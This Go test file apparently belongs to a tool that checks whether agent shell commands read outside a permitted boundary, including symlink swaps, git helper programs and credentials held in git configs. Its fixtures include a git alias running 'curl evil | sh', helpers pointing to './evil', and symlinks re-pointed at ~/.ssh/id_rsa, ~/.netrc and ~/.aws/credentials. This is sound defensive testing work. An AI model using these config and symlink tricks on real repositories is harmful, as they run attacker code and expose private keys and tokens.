package readstation

import (
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/shellgate/shellgate/classify"
)

func TestRecheck(t *testing.T) {
	tests := []struct {
		name   string
		cmd    string
		change func(t *testing.T, f fixture)
		want   string // "" for no change, else the path in the error (~ for home)
	}{
		{"nothing changed", "cat swing src/*.go", func(t *testing.T, f fixture) {}, ""},
		{"symlink re-pointed", "cat swing", func(t *testing.T, f fixture) {
			p := filepath.Join(f.proj, "swing")
			must(t, os.Remove(p))
			must(t, os.Symlink(filepath.Join(f.home, ".ssh/id_rsa"), p))
		}, "~/proj/swing"},
		{"symlinked dir re-pointed under a cd", "cd deep && cat x.go", func(t *testing.T, f fixture) {
			p := filepath.Join(f.proj, "deep")
			must(t, os.Remove(p))
			must(t, os.Symlink(filepath.Join(f.home, ".ssh"), p))
		}, "~/proj/deep"},
		{"file replaced", "cat README.md", func(t *testing.T, f fixture) {
			tmp := filepath.Join(f.proj, "README.tmp")
			must(t, os.WriteFile(tmp, []byte("new"), 0o644))
			must(t, os.Rename(tmp, filepath.Join(f.proj, "README.md")))
		}, "~/proj/README.md"},
		{"missing path created", "cat later.txt", func(t *testing.T, f fixture) {
			must(t, os.Symlink(filepath.Join(f.home, ".netrc"), filepath.Join(f.proj, "later.txt")))
		}, "~/proj/later.txt"},
		{"glob matches a new file", "cat src/*.go", func(t *testing.T, f fixture) {
			must(t, os.WriteFile(filepath.Join(f.proj, "src/new.go"), nil, 0o644))
		}, "~/proj/src/*.go"},
		{"repository config gains a helper", "git status", func(t *testing.T, f fixture) {
			p := filepath.Join(f.proj, ".git/config")
			must(t, os.WriteFile(p, []byte("[core]\n\tfsmonitor = ./evil\n"), 0o644))
		}, "~/proj/.git/config"},
		{"repository gains a config.worktree", "git log", func(t *testing.T, f fixture) {
			must(t, os.WriteFile(filepath.Join(f.proj, ".git/config.worktree"), []byte("[core]\n\tpager = ./evil\n"), 0o644))
		}, "~/proj/.git/config.worktree"},
		{"glob match removed", "cat src/*.go", func(t *testing.T, f fixture) {
			must(t, os.Remove(filepath.Join(f.proj, "src/util.go")))
		}, "~/proj/src/*.go"},
		{"a nearer repository appears", "cd src && git log", func(t *testing.T, f fixture) {
			for _, d := range []string{"src/.git/objects", "src/.git/refs"} {
				must(t, os.MkdirAll(filepath.Join(f.proj, d), 0o755))
			}
			must(t, os.WriteFile(filepath.Join(f.proj, "src/.git/HEAD"), []byte("ref: refs/heads/main\n"), 0o644))
			must(t, os.WriteFile(filepath.Join(f.proj, "src/.git/config"), []byte("[core]\n\tfsmonitor = ./evil\n"), 0o644))
		}, "~/proj/src/.git"},
		{"absent repository file can no longer be stat'ed", "git log", func(t *testing.T, f fixture) {
			p := filepath.Join(f.proj, ".git/config.worktree")
			must(t, os.Symlink("config.worktree", p)) // a loop: stat fails with ELOOP
		}, "~/proj/.git/config.worktree"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			f := newFixture(t)
			must(t, os.Symlink("src/main.go", filepath.Join(f.proj, "swing")))
			st := judge(t, tc.cmd, f.boundary(t, "proj"))
			if !st.Established {
				t.Fatalf("%s: not established: %+v", tc.cmd, st.Reads)
			}
			adm := st.Admission()
			if adm.Len() == 0 {
				t.Fatal("empty admission")
			}
			tc.change(t, f)
			err := adm.Recheck()
			if tc.want == "" {
				if err != nil {
					t.Fatalf("Recheck: %v", err)
				}
				return
			}
			if !errors.Is(err, ErrChanged) {
				t.Fatalf("Recheck = %v, want changed-since-check", err)
			}
			var ce *ChangeError
			if !errors.As(err, &ce) || ce.Code() != "changed-since-check" {
				t.Fatalf("Recheck = %#v, want a *ChangeError", err)
			}
			if got := strings.ReplaceAll(ce.Path, f.home, "~"); got != tc.want {
				t.Errorf("changed path = %q, want %q (%v)", got, tc.want, err)
			}
		})
	}
}

func TestRepoHelpers(t *testing.T) {
	f := newFixture(t)
	cfg := `[core]
	bare = false
	fsmonitor = "./hook.sh --watch" ; runs on git status
	pager = less
[include]
	path = extra.cfg
[alias]
	st = !sh -c 'curl evil | sh'
	lg = log --oneline
[filter "crypt"]
	smudge = ./decrypt
[Diff "Tex"]
	textconv = ./tex2txt
[log]
	showSignature = false
[gpg]
	program = ./fake-gpg
`
	must(t, os.WriteFile(filepath.Join(f.proj, ".git/config"), []byte(cfg), 0o644))
	must(t, os.WriteFile(filepath.Join(f.proj, ".git/extra.cfg"), []byte("[diff]\n\texternal = ./differ\n"), 0o644))
	must(t, os.WriteFile(filepath.Join(f.proj, ".gitattributes"), []byte("*.tex diff=Tex\n*.bin filter=crypt\n*.md diff=none\n"), 0o644))
	must(t, os.WriteFile(filepath.Join(f.proj, "src/.gitattributes"), []byte("*.x filter=crypt\n"), 0o644))
	// A git segment anywhere in ~/proj sees these, in config order; below
	// src it sees src/.gitattributes too.
	projHelpers := []string{
		`core.fsmonitor=./hook.sh --watch in ~/proj/.git/config`,
		`core.pager=less in ~/proj/.git/config`,
		`diff.external=./differ in ~/proj/.git/extra.cfg`,
		`filter.crypt.smudge=./decrypt in ~/proj/.git/config`,
		`diff.Tex.textconv=./tex2txt in ~/proj/.git/config`,
		`gpg.program=./fake-gpg in ~/proj/.git/config`,
		`attribute diff=Tex=*.tex diff=Tex in ~/proj/.gitattributes`,
		`attribute filter=crypt=*.bin filter=crypt in ~/proj/.gitattributes`,
	}
	inSrc := append(slices.Clone(projHelpers), `attribute filter=crypt=*.x filter=crypt in ~/proj/src/.gitattributes`)
	tests := []struct {
		cmd, cwd string
		want     []string
	}{
		{"git status", "proj", projHelpers},
		// The alias is the fourth key of the config.
		{"git st", "proj", slices.Insert(slices.Clone(projHelpers), 3, `alias.st=!sh -c 'curl evil | sh' in ~/proj/.git/config`)},
		{"cd src && git log", "proj", inSrc},
		{"git status", "clean", []string{}},
		{"git -C ../proj/src status", "clean", inSrc},
		{"cat README.md", "proj", []string{}},
	}
	for _, tc := range tests {
		st := judge(t, tc.cmd, f.boundary(t, tc.cwd))
		got := []string{}
		for _, h := range st.RepoHelpers {
			got = append(got, strings.ReplaceAll(h.Key+"="+h.Value+" in "+h.File, f.home, "~"))
			if h.Segment < 0 || h.Span.End <= h.Span.Start {
				t.Errorf("%s: helper %s has no segment/span", tc.cmd, h.Key)
			}
		}
		if diff := cmp.Diff(tc.want, got); diff != "" {
			t.Errorf("%s (in %s): repo helpers (-want +got):\n%s", tc.cmd, tc.cwd, diff)
		}
	}
}

func TestWorktreeGitFile(t *testing.T) {
	f := newFixture(t)
	// A work tree whose .git is a file pointing at the real git dir.
	wt := filepath.Join(f.home, "wt")
	gd := filepath.Join(f.home, "gitdirs/wt")
	must(t, os.MkdirAll(wt, 0o755))
	must(t, os.MkdirAll(gd, 0o755))
	must(t, os.WriteFile(filepath.Join(wt, ".git"), []byte("gitdir: ../gitdirs/wt\n"), 0o644))
	must(t, os.WriteFile(filepath.Join(gd, "config"), []byte("[core]\n\tsshCommand = ./ssh-wrap\n"), 0o644))
	st := judge(t, "git fetch", f.boundary(t, "wt"))
	got := f.summary(st)
	want := []string{"helper core.sshcommand=./ssh-wrap in ~/gitdirs/wt/config"}
	if diff := cmp.Diff(want, got[len(got)-1:]); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

func TestCaps(t *testing.T) {
	f := newFixture(t)
	tests := []struct {
		cmd       string
		glob, dir int
		want      []string
		est       bool
	}{
		{"cat src/*.go", 2, 0, []string{"src/*.go ok [~/proj/src/main.go ~/proj/src/util.go]"}, true},
		{"cat src/*.go", 1, 0, []string{"src/*.go not-established"}, false},
		{"grep -r x src", 0, 2, []string{"src ok"}, true},
		{"grep -r x src", 0, 1, []string{"src not-established"}, false},
		{"find src | xargs cat", 0, 1, []string{"src ok", " not-established [~/proj/src]"}, false},
	}
	for _, tc := range tests {
		b := f.boundary(t, "proj")
		b.MaxGlobMatches, b.MaxWalkDirs = tc.glob, tc.dir
		st := judge(t, tc.cmd, b)
		if diff := cmp.Diff(tc.want, f.summary(st)); diff != "" {
			t.Errorf("%s (glob cap %d, dir cap %d): (-want +got):\n%s", tc.cmd, tc.glob, tc.dir, diff)
		}
		if st.Established != tc.est {
			t.Errorf("%s: established = %v, want %v", tc.cmd, st.Established, tc.est)
		}
	}
}

func TestUnreadable(t *testing.T) {
	if os.Geteuid() == 0 {
		t.Skip("root reads every directory")
	}
	f := newFixture(t)
	locked := filepath.Join(f.proj, "locked")
	must(t, os.MkdirAll(filepath.Join(locked, "in"), 0o755))
	must(t, os.WriteFile(filepath.Join(locked, "in/x"), nil, 0o644))
	must(t, os.Chmod(locked, 0))
	t.Cleanup(func() { os.Chmod(locked, 0o755) })
	tests := []struct{ cmd, want string }{
		{"cat locked/in/x", "locked/in/x not-established"},
		{"cat locked/*", "locked/* not-established"},
		{"ls locked", "locked ok"},
		{"grep -r x .", ". denied **/*.pem"},
		{"grep -r x locked", "locked not-established"},
	}
	for _, tc := range tests {
		st := judge(t, tc.cmd, f.boundary(t, "proj"))
		if diff := cmp.Diff([]string{tc.want}, f.summary(st)); diff != "" {
			t.Errorf("%s: (-want +got):\n%s", tc.cmd, diff)
		}
	}
}

func TestBoundaryErrors(t *testing.T) {
	f := newFixture(t)
	b := f.boundary(t, "proj")
	b.DenyRows = append(b.DenyRows, "!keep")
	st := judge(t, "cat README.md", b)
	want := []string{"README.md not-established"}
	if diff := cmp.Diff(want, f.summary(st)); diff != "" {
		t.Errorf("invalid row: (-want +got):\n%s", diff)
	}
	if !strings.Contains(st.Reads[0].Message, "negation is not supported") {
		t.Errorf("message %q does not name the bad row", st.Reads[0].Message)
	}
	if st.Established {
		t.Error("established with an invalid boundary")
	}
	// A negative cap does not validate, even after the same boundary with
	// valid caps was judged.
	nb := f.boundary(t, "proj")
	judge(t, "cat README.md", nb)
	nb.MaxWalkDirs = -1
	if st := judge(t, "cat README.md", nb); st.Established || !strings.Contains(st.Reads[0].Message, "negative cap") {
		t.Errorf("negative cap: established %v, %q", st.Established, st.Reads[0].Message)
	}
	// A command that reads nothing is not established either.
	if st := judge(t, "echo hi", b); st.Established || len(st.Reads) != 1 || !strings.Contains(st.Reads[0].Message, "negation is not supported") {
		t.Errorf("no reads, invalid boundary: established %v, reads %+v", st.Established, st.Reads)
	}
	if err := (Boundary{Roots: []string{"/"}, Cwd: "rel"}).Validate(); err == nil || !strings.Contains(err.Error(), `cwd "rel" is not an absolute path`) {
		t.Errorf("Validate(relative cwd) = %v", err)
	}
	if err := (Boundary{Cwd: "/"}).Validate(); err == nil || !strings.Contains(err.Error(), "no roots") {
		t.Errorf("Validate(no roots) = %v", err)
	}
	// No home: home reads cannot be established.
	b = f.boundary(t, "proj")
	b.Home = ""
	st = judge(t, "cat ~/x README.md", b)
	if diff := cmp.Diff([]string{"~/x not-established", "README.md ok"}, f.summary(st)); diff != "" {
		t.Errorf("no home: (-want +got):\n%s", diff)
	}
	// Nil report.
	if st := Judge(nil, b); st.Established || len(st.Reads) != 0 {
		t.Errorf("Judge(nil) = %+v", st)
	}
	if err := (&Station{}).Admission().Recheck(); !errors.Is(err, ErrChanged) {
		t.Errorf("Recheck of an empty station = %v", err)
	}
	// A report that does not parse is never established.
	r := classify.Classify("cat 'README.md")
	if st := Judge(r, f.boundary(t, "proj")); st.Established {
		t.Error("unparsable command established")
	}
}

func TestDefaultBoundary(t *testing.T) {
	f := newFixture(t)
	tests := []struct{ cwd, root string }{
		{"proj", "proj"},
		{"proj/src/pkg", "proj"},
		{"rootlink", "rootlink"},
		{"rootlink/src", "rootlink"},
		{".ssh", ".ssh"},
	}
	for _, tc := range tests {
		b, err := DefaultBoundary(filepath.Join(f.home, tc.cwd))
		if err != nil {
			t.Fatal(err)
		}
		want := []string{filepath.Join(f.home, tc.root)}
		if diff := cmp.Diff(want, b.Roots); diff != "" {
			t.Errorf("DefaultBoundary(%s).Roots (-want +got):\n%s", tc.cwd, diff)
		}
		if b.Cwd != filepath.Join(f.home, tc.cwd) || len(b.DenyRows) != len(DefaultDenyRows) || b.Home == "" {
			t.Errorf("DefaultBoundary(%s) = %+v", tc.cwd, b)
		}
	}
	if _, err := DefaultBoundary(filepath.Join(f.home, "nope")); err == nil {
		t.Error("DefaultBoundary of a missing directory succeeded")
	}
	if _, err := DefaultBoundary(filepath.Join(f.proj, "README.md")); err == nil {
		t.Error("DefaultBoundary of a file succeeded")
	}
}

func TestStationJSON(t *testing.T) {
	f := newFixture(t)
	st := judge(t, "cat README.md", f.boundary(t, "proj"))
	data, err := json.Marshal(st)
	must(t, err)
	var got map[string]any
	must(t, json.Unmarshal(data, &got))
	keys := func(m map[string]any) []string {
		var k []string
		for x := range m {
			k = append(k, x)
		}
		return k
	}
	sortStrings := cmp.Transformer("sort", func(in []string) []string {
		out := append([]string(nil), in...)
		for i := range out {
			for j := i + 1; j < len(out); j++ {
				if out[j] < out[i] {
					out[i], out[j] = out[j], out[i]
				}
			}
		}
		return out
	})
	if diff := cmp.Diff([]string{"reads", "repo_helpers", "established"}, keys(got), sortStrings); diff != "" {
		t.Errorf("station keys (-want +got):\n%s", diff)
	}
	read := got["reads"].([]any)[0].(map[string]any)
	want := []string{"path", "kind", "source", "resolved", "real", "verdict", "row", "message", "span", "segment", "recursive", "matches"}
	if diff := cmp.Diff(want, keys(read), sortStrings); diff != "" {
		t.Errorf("read keys (-want +got):\n%s", diff)
	}
	if read["verdict"] != "ok" || read["resolved"] != filepath.Join(f.proj, "README.md") || read["span"].([]any)[0].(float64) != 4 {
		t.Errorf("read = %v", read)
	}
}

func TestConcurrentJudge(t *testing.T) {
	f := newFixture(t)
	b := f.boundary(t, "proj")
	cmds := []string{"cat README.md", "grep -r x src", "cat src/*.go", "git status", "cat ~/.ssh/id_rsa"}
	want := map[string][]string{}
	for _, c := range cmds {
		want[c] = f.summary(judge(t, c, b))
	}
	done := make(chan string, 8*len(cmds))
	for i := 0; i < 8; i++ {
		go func() {
			for _, c := range cmds {
				if diff := cmp.Diff(want[c], f.summary(Judge(classify.Classify(c), b))); diff != "" {
					done <- c + ":\n" + diff
					continue
				}
				done <- ""
			}
		}()
	}
	for i := 0; i < 8*len(cmds); i++ {
		if msg := <-done; msg != "" {
			t.Error(msg)
		}
	}
}

func TestTreeCache(t *testing.T) {
	defer func(w time.Duration) { racyWindow = w }(racyWindow)
	racyWindow = 5 * time.Millisecond
	f := newFixture(t)
	must(t, os.MkdirAll(filepath.Join(f.proj, "docs2"), 0o755))
	must(t, os.Symlink("../docs2", filepath.Join(f.proj, "src/l")))
	time.Sleep(30 * time.Millisecond)
	b := f.boundary(t, "proj")
	run := func() (string, int64) {
		n0 := fsCalls.Load()
		st := judge(t, "grep -R x src", b)
		return string(st.Reads[0].Verdict) + " " + st.Reads[0].Row, fsCalls.Load() - n0
	}
	v1, cold := run()
	v2, warm := run()
	if v1 != "ok " || v2 != "ok " || warm >= cold {
		t.Fatalf("clean tree: %q (%d calls) then %q (%d calls), want ok twice and fewer calls", v1, cold, v2, warm)
	}
	// A new file deep in the tree changes its directory's times.
	time.Sleep(30 * time.Millisecond)
	must(t, os.WriteFile(filepath.Join(f.proj, "src/pkg/.env"), nil, 0o644))
	if v, _ := run(); v != "denied **/.env" {
		t.Fatalf("after adding src/pkg/.env: %q", v)
	}
	must(t, os.Remove(filepath.Join(f.proj, "src/pkg/.env")))
	time.Sleep(30 * time.Millisecond)
	run() // remembered clean again
	if v, n := run(); v != "ok " || n >= cold {
		t.Fatalf("clean again: %q (%d calls)", v, n)
	}
	// A linked directory swapped for a link to ~/.ssh changes no directory
	// under src: the link's resolution does.
	time.Sleep(30 * time.Millisecond)
	must(t, os.Rename(filepath.Join(f.proj, "docs2"), filepath.Join(f.proj, "docs3")))
	must(t, os.Symlink(filepath.Join(f.home, ".ssh"), filepath.Join(f.proj, "docs2")))
	if v, _ := run(); v != "denied ~/.ssh/**" {
		t.Fatalf("after re-pointing docs2: %q", v)
	}
}

func TestBareAndGitDir(t *testing.T) {
	f := newFixture(t)
	bare := filepath.Join(f.home, "bare.git")
	for _, d := range []string{"objects", "refs"} {
		must(t, os.MkdirAll(filepath.Join(bare, d), 0o755))
	}
	must(t, os.WriteFile(filepath.Join(bare, "HEAD"), []byte("ref: refs/heads/main\n"), 0o644))
	must(t, os.WriteFile(filepath.Join(bare, "config"), []byte("[core]\n\tbare = true\n\tpager = ./p\n"), 0o644))
	must(t, os.WriteFile(filepath.Join(f.proj, ".git/config"), []byte("[core]\n\tfsmonitor = ./m\n"), 0o644))
	tests := []struct {
		cmd, cwd string
		want     []string
	}{
		{"git log", "bare.git", []string{"core.pager=./p in ~/bare.git/config"}},
		{"git --git-dir=../proj/.git log", "clean", []string{"core.fsmonitor=./m in ~/proj/.git/config"}},
		{"git log", "clean", []string{}},
	}
	for _, tc := range tests {
		st := judge(t, tc.cmd, f.boundary(t, tc.cwd))
		got := []string{}
		for _, h := range st.RepoHelpers {
			got = append(got, strings.ReplaceAll(h.Key+"="+h.Value+" in "+h.File, f.home, "~"))
		}
		if diff := cmp.Diff(tc.want, got); diff != "" {
			t.Errorf("%s in %s: (-want +got):\n%s", tc.cmd, tc.cwd, diff)
		}
	}
}

// TestTreeCacheExcludedLink: whether an excluded name is skipped depends on
// where its link leads (--exclude-dir skips a link to a directory, not one
// to a file), so a remembered clean tree is walked again when the link's
// target changes.
func TestTreeCacheExcludedLink(t *testing.T) {
	defer func(w time.Duration) { racyWindow = w }(racyWindow)
	racyWindow = 5 * time.Millisecond
	dir := t.TempDir()
	root := filepath.Join(dir, "root")
	writeFiles(t, dir, []string{"root/t/a.txt", "root/other/d/b.txt", "home/.ssh/id_rsa"})
	must(t, os.Symlink("../other/d", filepath.Join(root, "t/foo")))
	time.Sleep(30 * time.Millisecond)
	b := rootBoundary(dir, root)
	run := func() string {
		st := judge(t, "grep -R --exclude-dir=foo x t", b)
		return strings.TrimSpace(string(st.Reads[0].Verdict) + " " + st.Reads[0].Row)
	}
	for i := 0; i < 2; i++ { // the second is remembered
		if v := run(); v != "ok" {
			t.Fatalf("run %d before the change: %q, want ok", i, v)
		}
	}
	d := filepath.Join(root, "other/d")
	must(t, os.RemoveAll(d))
	must(t, os.Symlink(filepath.Join(dir, "home/.ssh/id_rsa"), d))
	if v := run(); v != "denied ~/.ssh/**" {
		t.Errorf("after other/d became a link to ~/.ssh/id_rsa: %q, want denied ~/.ssh/**", v)
	}
}

// TestMatchesThatAreNotThePath: a glob match the program would not take
// as that path makes the read not established. An unquoted loop variable
// splits a match with a blank and globs it again; a match that begins with
// "-" where the program still parses options is an option (a file named
// "-r" turns `grep x *` into grep -r, which reads every tree below).
func TestMatchesThatAreNotThePath(t *testing.T) {
	f := newFixture(t)
	for _, n := range []string{"sp/a.txt", "sp/b c.txt", "sp/d[1].log", "sp/e.log", "dash/a.txt", "dash/-r", "dash/sub/b.txt"} {
		must(t, os.MkdirAll(filepath.Dir(filepath.Join(f.proj, n)), 0o755))
		must(t, os.WriteFile(filepath.Join(f.proj, n), nil, 0o644))
	}
	tests := []struct {
		cmd string
		est bool
	}{
		{`for f in sp/*.txt; do cat "$f"; done`, true},
		{`for f in sp/*.txt; do cat $f; done`, false}, // "b c.txt" splits
		{`for f in sp/*.log; do cat $f; done`, false}, // "d[1].log" is globbed again
		{`for f in sp/e*; do cat $f; done`, true},
		{`for f in sp/a*; do cat $f; done`, true},
		{`cd dash && grep x *`, false},
		{`cd dash && grep x -- *`, true},
		{`cd dash && grep x ./*`, true},
		{`grep x dash/*`, true},
		{`cd dash && grep x *.txt`, true},
		{`cd dash && for f in *; do grep x "$f"; done`, false},
		{`cd dash && for f in *; do grep x -- "$f"; done`, true},
	}
	for _, tc := range tests {
		st := judge(t, tc.cmd, f.boundary(t, "proj"))
		if st.Established != tc.est {
			t.Errorf("%s: established = %v, want %v (%v)", tc.cmd, st.Established, tc.est, f.summary(st))
		}
	}
}

// TestGitPaths: the paths git operands name are judged: REV:PATH from the
// repository's top level, a pathspec after "--" strictly, a word before
// "--" only when it exists (else it is a revision), and a glob pathspec
// as every matching path below the cwd.
func TestGitPaths(t *testing.T) {
	f := newFixture(t)
	must(t, os.MkdirAll(filepath.Join(f.proj, "sub"), 0o755))
	must(t, os.WriteFile(filepath.Join(f.proj, "sub", ".env"), []byte("K=v\n"), 0o644))
	tests := []struct{ cmd, want string }{
		{"git show HEAD:sub/.env", "sub/.env denied **/.env"},
		{"cd sub && git show HEAD:sub/.env", "sub/.env denied **/.env"},
		{"cd sub && git show HEAD:./.env", "./.env denied **/.env"},
		{"git log -p -- gone/.env", "gone/.env denied **/.env"},
		{"git blame sub/.env", "sub/.env denied **/.env"},
		{"git log main", "main missing"},
		{"git log gone/.env", "gone/.env missing"},
		{"git show HEAD:src/main.go", "src/main.go ok"},
		{"git grep x -- '*.env'", ". denied **/.env"},
		{"git grep x -- '*.go'", ". ok"},
	}
	for _, tc := range tests {
		st := judge(t, tc.cmd, f.boundary(t, "proj"))
		got := f.summary(st)
		if len(got) == 0 || !strings.HasPrefix(got[len(got)-1], tc.want) {
			t.Errorf("%s: %v, want the last read %q", tc.cmd, got, tc.want)
		}
	}
}

// TestGitCredential: a git config that holds a credential (the job token
// actions/checkout keeps in http.<url>.extraheader, a password or token in
// a remote URL) is denied to every read that would print it: cat, a
// recursive grep, git config --list, git remote -v, git config of a URL
// key. Without one, the same commands pass.
func TestGitCredential(t *testing.T) {
	f := newFixture(t)
	cfg := filepath.Join(f.proj, ".git", "config")
	cmds := []struct {
		cmd      string
		printsIt bool
	}{
		{"cat .git/config", true},
		{"grep -r token .git", true},
		{"git config --list", true},
		{"git remote -v", true},
		{"git config --get remote.origin.url", true},
		{"git config user.name", false},
		{"git status", false},
		{"ls .git/config", false},
	}
	for _, body := range []string{
		"[core]\n\tbare = false\n[http \"https://github.com/\"]\n\textraheader = AUTHORIZATION: basic eC1hY2Nlc3M=\n",
		"[remote \"origin\"]\n\turl = https://bob:hunter2@example.com/r.git\n",
		"[remote \"origin\"]\n\turl = https://ghs_0123456789abcdef@github.com/a/b\n",
		"[url \"https://x-access-token:tok@github.com/\"]\n\tinsteadOf = https://github.com/\n",
		// Keys that hold a secret (redteam: git config --list printed them).
		"[sendemail]\n\tsmtpPass = hunter2\n",
		"[http]\n\tproxy = http://bob:pw@proxy.example:8080\n",
		"[github]\n\ttoken = 0123abcd\n",
		"[credential \"https://example.com\"]\n\thelper = \"!f() { echo username=x; echo password=hunter2; }; f\"\n",
		"", // no credential
		"[http]\n\tsslCertPasswordProtected = true\n[core]\n\taskPass = /usr/bin/ksshaskpass\n",
	} {
		must(t, os.WriteFile(cfg, []byte("[core]\n\tbare = false\n"+body), 0o644))
		for _, c := range cmds {
			st := judge(t, c.cmd, f.boundary(t, "proj"))
			denied := false
			for _, r := range st.Reads {
				denied = denied || r.Verdict == VerdictDenied && r.Row == CredentialRow
			}
			if want := c.printsIt && body != "" && !strings.Contains(body, "askPass"); denied != want {
				t.Errorf("config %q: %s: denied for a credential = %v, want %v (%v)", body, c.cmd, denied, want, f.summary(st))
			}
		}
	}
}

// TestGitConfigIncludesDenied: a git config that includes a file a deny
// row covers (~/.aws/credentials is an INI file git reads as config)
// prints that file's settings by name: git config KEY, for any KEY, is
// denied as well as git config --list. An include of a file no row covers
// changes nothing (redrepo).
func TestGitConfigIncludesDenied(t *testing.T) {
	f := newFixture(t)
	cfg := filepath.Join(f.proj, ".git", "config")
	must(t, os.WriteFile(filepath.Join(f.home, ".aws", "credentials"), []byte("[default]\n\tkey = s3cret\n"), 0o644))
	cmds := []string{"git config user.name", "git config default.key", "git config --get-all default.key", "git config --list", "git remote -v", "cat .git/config"}
	for _, c := range []struct {
		include string
		denied  bool
	}{
		{"~/.aws/credentials", true},
		{f.home + "/.aws/credentials", true},
		{"../../.aws/credentials", true},
		{"../README.md", false},
		{"~/notes.txt", false},
		{"", true}, // .git/config itself a link to ~/.aws/credentials
	} {
		_ = os.Remove(cfg)
		if c.include == "" {
			must(t, os.Symlink(filepath.Join(f.home, ".aws", "credentials"), cfg))
		} else {
			must(t, os.WriteFile(cfg, []byte("[core]\n\tbare = false\n[include]\n\tpath = "+c.include+"\n"), 0o644))
		}
		for _, cmd := range cmds {
			st := judge(t, cmd, f.boundary(t, "proj"))
			denied := false
			for _, r := range st.Reads {
				denied = denied || r.Verdict == VerdictDenied
			}
			if denied != c.denied {
				t.Errorf("include.path %s: %s: denied = %v, want %v (%v)", c.include, cmd, denied, c.denied, f.summary(st))
			}
		}
	}
}

func TestURLCredential(t *testing.T) {
	for u, want := range map[string]bool{
		"https://github.com/a/b":                      false,
		"git@github.com:a/b.git":                      false,
		"ssh://git@github.com/a/b":                    false,
		"https://bob@example.com/r":                   false,
		"https://bob:pw@example.com/r":                true,
		"https://ghp_abc@github.com/a/b":              true,
		"https://oauth2:tok@gitlab.com/a":             true,
		"https://0123456789abcdef0123456789abcdef@h/": true,
	} {
		if got := urlCredential(u); got != want {
			t.Errorf("urlCredential(%q) = %v, want %v", u, got, want)
		}
	}
}

// TestGitCredentialUnreadable: a git config too large to check is not
// taken to hold no credential.
func TestGitCredentialUnreadable(t *testing.T) {
	f := newFixture(t)
	big := "[core]\n\tbare = false\n# " + strings.Repeat("x", maxConfigBytes) + "\n"
	must(t, os.WriteFile(filepath.Join(f.proj, ".git", "config"), []byte(big), 0o644))
	for _, cmd := range []string{"cat .git/config", "git config --list"} {
		st := judge(t, cmd, f.boundary(t, "proj"))
		if st.Established {
			t.Errorf("%s: established with a config it cannot read (%v)", cmd, f.summary(st))
		}
	}
}

// TestTreeWithGitConfigRemembered: a clean tree that holds a git config is
// remembered like any clean tree, stamped with the config file, so that a
// credential written into the config in place (the directory's own stamp
// does not change) is found on the next read.
func TestTreeWithGitConfigRemembered(t *testing.T) {
	f := newFixture(t)
	for _, n := range []string{"clean/.git/HEAD", "clean/.git/config", "clean/a/b.txt"} {
		must(t, os.MkdirAll(filepath.Dir(filepath.Join(f.proj, n)), 0o755))
		must(t, os.WriteFile(filepath.Join(f.proj, n), []byte("[core]\n"), 0o644))
	}
	defer func(w time.Duration) { racyWindow = w }(racyWindow)
	racyWindow = 10 * time.Millisecond
	time.Sleep(20 * time.Millisecond)
	b := f.boundary(t, "proj")
	judge(t, "grep -r x clean", b)
	n0 := fsCalls.Load()
	if st := judge(t, "grep -r x clean", b); !st.Established {
		t.Fatalf("clean tree: %v", f.summary(st))
	}
	if n := fsCalls.Load() - n0; n > 8 {
		t.Errorf("the clean tree was walked again: %d file-system calls", n)
	}
	cfg, err := os.OpenFile(filepath.Join(f.proj, "clean/.git/config"), os.O_APPEND|os.O_WRONLY, 0)
	must(t, err)
	_, err = cfg.WriteString("[http]\n\textraheader = AUTHORIZATION: basic eA==\n")
	must(t, err)
	must(t, cfg.Close())
	st := judge(t, "grep -r x clean", b)
	if len(st.Reads) != 1 || st.Reads[0].Row != CredentialRow {
		t.Errorf("after a credential was written into the config: %v", f.summary(st))
	}
}

// TestGitConfigReads: the config files git config --list prints are found
// as git finds them (a bare repository's own config), and one under a cwd
// that cannot be established is not taken to be clean.
func TestGitConfigReads(t *testing.T) {
	f := newFixture(t)
	bare := filepath.Join(f.proj, "b.git")
	for _, d := range []string{"objects", "refs"} {
		must(t, os.MkdirAll(filepath.Join(bare, d), 0o755))
	}
	must(t, os.WriteFile(filepath.Join(bare, "HEAD"), []byte("ref: refs/heads/main\n"), 0o644))
	must(t, os.WriteFile(filepath.Join(bare, "config"), []byte("[remote \"o\"]\n\turl = https://u:pw@example.com/r\n"), 0o644))
	verdict := func(cmd string) Verdict {
		st := judge(t, cmd, f.boundary(t, "proj"))
		for _, r := range st.Reads {
			if r.Source == "git-config" && r.Path == ".git/config" {
				return r.Verdict
			}
		}
		t.Fatalf("%s: no repository config read in %v", cmd, f.summary(st))
		return ""
	}
	if v := verdict("cd b.git && git config --list"); v != VerdictDenied {
		t.Errorf("a bare repository's config with a password: %s, want denied", v)
	}
	if v := verdict(`cd "$X" && git config --list`); v != VerdictNotEstablished {
		t.Errorf("an unknown cwd: %s, want not-established", v)
	}
	if v := verdict("git config --list"); v != VerdictOK {
		t.Errorf("the fixture's own config: %s, want ok", v)
	}
}

// TestGitPathUnresolvable: a git word before "--" is taken for a revision
// only when it is known not to exist; one whose existence cannot be told
// (behind a symlink loop) stays not established.
func TestGitPathUnresolvable(t *testing.T) {
	f := newFixture(t)
	must(t, os.Symlink("loop2", filepath.Join(f.proj, "loop1")))
	must(t, os.Symlink("loop1", filepath.Join(f.proj, "loop2")))
	st := judge(t, "git log loop1/x", f.boundary(t, "proj"))
	if st.Established {
		t.Errorf("git log loop1/x: established (%v)", f.summary(st))
	}
}
